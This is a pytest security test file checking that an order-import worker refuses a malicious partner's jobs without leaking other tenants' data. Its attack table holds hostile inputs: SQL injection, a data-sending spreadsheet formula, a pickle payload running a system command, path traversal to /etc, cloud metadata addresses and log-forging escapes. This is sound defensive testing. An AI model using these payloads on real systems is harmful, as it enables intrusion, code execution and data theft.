"""A partner who sends whatever it likes: each attack gets its code, and reaches nothing of anybody else's."""

import hashlib
import json
import re
import sqlite3
from collections.abc import Callable, Mapping
from contextlib import closing
from pathlib import Path
from typing import Any, NamedTuple

import pytest

from config.headers import read_own_header
from tests.support.world import World, job
from tests.support.worlds import embedded

POINTER = "software.amazon.payloadoffloading.PayloadS3Pointer"
SECRET = b"order_no,note\n4711,a secret of acme\n"
INJECTION = "'); DROP TABLE orders; --"
FORMULA = '=HYPERLINK("http://127.0.0.1/?"&A1)'
ESCAPE = "\x1b[2J"
MALLORY = """
[[handlers.insert]]
type = "orders.import"
table = "orders"
source = "attachments"

[partners.mallory]
customers = ["c-1"]
types = ["orders.insert", "orders.import"]
"""


def attachment(world: World, key: str = "acme/secret.csv", **changes: Any) -> dict[str, Any]:
    """The entry for a file of acme's, with all that is to be known of it."""
    known = {"name": "lines.csv", "bucket": f"file://{world.directory}/bucket", "key": key}
    return {**known, "size": len(SECRET), "sha256": hashlib.sha256(SECRET).hexdigest(), **changes}


def importing(world: World, **changes: Any) -> dict[str, Any]:
    """A job that inserts an attachment's rows."""
    return {"type": "orders.import", "attachments": [attachment(world, **changes)]}


Fields = Callable[[World], Mapping[str, Any]]

REJECTED: dict[str, tuple[str, Fields]] = {
    "another's customer": ("not_granted", lambda _: {"customers": ["c-0"]}),
    "another's beside its own": ("not_granted", lambda _: {"customers": ["c-1", "c-0"]}),
    "all customers": ("unknown_customer", lambda _: {"customers": ["*"]}),
    "another's type": ("not_granted", lambda _: {"type": "orders.logged"}),
    "an unknown type": ("unknown_type", lambda _: {"type": "orders.drop"}),
    "a type that steers a terminal": ("bad_message", lambda _: {"type": f"orders.{ESCAPE}"}),
    "another's file": ("attachment_not_allowed", importing),
    "a way up": ("attachment_not_allowed", lambda world: importing(world, key="mallory/../acme/secret.csv")),
    "a link": ("attachment_not_allowed", lambda world: importing(world, key="mallory/link.csv")),
    "another bucket": (
        "attachment_not_allowed",
        lambda _: {"attachments": [_elsewhere("file:///etc", "mallory/passwd")], "type": "orders.import"},
    ),
    "the service's own address": (
        "attachment_not_allowed",
        lambda _: {"attachments": [_elsewhere("169.254.169.254", "mallory/latest")], "type": "orders.import"},
    ),
    "a name that is a path": ("bad_message", lambda world: importing(world, name="../../etc/cron.d/x")),
    "control characters": ("bad_message", lambda _: {"correlation_id": f"{ESCAPE}\nall is well"}),
}
"""Attacks by what they are, with the code of the answer and the fields of the job."""

FAILED: dict[str, tuple[str, Fields]] = {
    "a column that is SQL": ("invalid_rows", lambda _: _rows({"order_no": 1, 'note"=1; DROP TABLE x': 1})),
    "another's row": ("invalid_rows", lambda _: _rows({"order_no": 1, "customer_id": "c-0"})),
    "no value but a list": ("invalid_rows", lambda _: _rows({"order_no": [1], "note": {"$ne": 1}})),
}

UNREADABLE: dict[str, tuple[str, str]] = {
    "a partner that is a path": ("bad_message", json.dumps(job("path", partner_id="../acme"))),
    "pickle": ("bad_message", "\\x80\\x04cposix\nsystem\n(S'id'\ntR."),
    "PHP's serializer": ("php_serialized", 'O:36:"Symfony\\Component\\Messenger\\Envelope":0:{}'),
    "deep": ("bad_message", '{"job_id": "deep", "payload": ' + "[" * 100_000),
    "another's body": (
        "claim_check_failed",
        json.dumps([POINTER, {"s3BucketName": "file:///etc", "s3Key": "passwd"}]),
    ),
}
"""Bodies of which nobody can be told, with the code on the failure queue."""


class Attacked(NamedTuple):
    """What a worker that was attacked has left: results by job, codes on the failure queue, its log."""

    world: World
    results: dict[str, dict[str, Any]]
    buried: list[str | None]
    log: str


def _elsewhere(bucket: str, key: str) -> dict[str, Any]:
    return {"name": "lines.csv", "bucket": bucket, "key": key, "size": 1, "sha256": "0" * 64}


def _rows(row: dict[str, Any]) -> dict[str, Any]:
    return {"payload": {"rows": [row]}}


def _job_id(attack: str) -> str:
    return re.sub(r"\W", "_", attack)


def _attack(world: World, attack: str, fields: Fields) -> dict[str, Any]:
    own = job(_job_id(attack), ["c-1"], partner_id="mallory", rows=[{"order_no": 666}])
    return {**own, **fields(world)}


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Attacked:
    """A worker to which a partner sent all of it, between two jobs that are in order."""
    directory = tmp_path_factory.mktemp("attacked")
    with embedded(directory, extra=MALLORY) as world:
        return _outcome(world)


def _outcome(world: World) -> Attacked:
    _lay_out(world.directory / "bucket")
    jobs = [_attack(world, attack, fields) for attack, (_, fields) in {**REJECTED, **FAILED}.items()]
    bodies = [body for _, body in UNREADABLE.values()]
    honest = [_honest("before", 1, INJECTION), _honest("after", 2, FORMULA)]
    world.send(honest[0], *jobs, *bodies, honest[1])
    worker = world.start_worker("--limit", str(len(jobs) + len(bodies) + len(honest)))
    assert worker.wait() == 0
    buried = [read_own_header(one.headers).code for one in world.dead_letters()]
    results = {result["job_id"]: result for result in world.results()}
    return Attacked(world, results, buried, worker.log_path.read_text())


def _lay_out(bucket: Path) -> None:
    (bucket / "acme").mkdir()
    (bucket / "mallory").mkdir()
    (bucket / "acme" / "secret.csv").write_bytes(SECRET)
    (bucket / "mallory" / "link.csv").symlink_to(bucket / "acme" / "secret.csv")


def _honest(job_id: str, order_no: int, note: str) -> dict[str, Any]:
    return job(job_id, ["c-1"], partner_id="mallory", rows=[{"order_no": order_no, "note": note}])


@pytest.mark.parametrize("attack", REJECTED)
def test_what_a_partner_may_not_have_is_refused(attacked: Attacked, attack: str) -> None:
    """The whole job, for customers, types and attachments alike."""
    result = attacked.results[_job_id(attack)]

    assert (result["status"], result["error"]["code"]) == ("rejected", REJECTED[attack][0])


@pytest.mark.parametrize("attack", FAILED)
def test_names_of_columns_and_customers_do_not_come_from_a_payload(attacked: Attacked, attack: str) -> None:
    """Rows name columns that are configured, and no other customer's."""
    (customer,) = attacked.results[_job_id(attack)]["customers"]

    assert (customer["status"], customer["error"]["code"]) == ("failed", FAILED[attack][0])


@pytest.mark.parametrize("attack", UNREADABLE)
def test_what_is_no_job_is_kept_and_not_answered(attacked: Attacked, attack: str) -> None:
    """Nothing is unpickled, nothing of PHP's evaluated, no reference followed to where it may not lead."""
    assert UNREADABLE[attack][0] in attacked.buried
    assert set(attacked.results) == {_job_id(one) for one in (*REJECTED, *FAILED, "before", "after")}


def test_nothing_is_written_but_the_rows_in_order_and_these_as_they_are(attacked: Attacked) -> None:
    """What is SQL to a database, or a formula to a spreadsheet, is a text like any other."""
    with closing(sqlite3.connect(attacked.world.directory / "s1.db")) as connection:
        notes = connection.execute("SELECT order_no, customer_id, note FROM orders ORDER BY 1").fetchall()

    assert notes == [(1, "c-1", INJECTION), (2, "c-1", FORMULA)]
    assert attacked.world.rows() == [(1, "c-1"), (2, "c-1")]


def test_no_log_line_can_be_forged_and_no_value_stands_in_one(attacked: Attacked) -> None:
    """Each line is JSON without control characters; payloads, files and the failed values are in none."""
    lines = attacked.log.splitlines()

    assert all(json.loads(line) and line.isprintable() for line in lines)
    for value in (INJECTION, FORMULA, "a secret of acme", "all is well", "$ne", "HYPERLINK"):
        assert value not in attacked.log


def test_no_answer_tells_what_is_not_the_partner_s(attacked: Attacked) -> None:
    """Not what lies in another's file, not where databases are, not a value, not a stack."""
    answers = json.dumps(list(attacked.results.values()))

    for value in ("a secret of acme", "sqlite", str(attacked.world.directory), "Traceback", "$ne", "DROP"):
        assert value not in answers
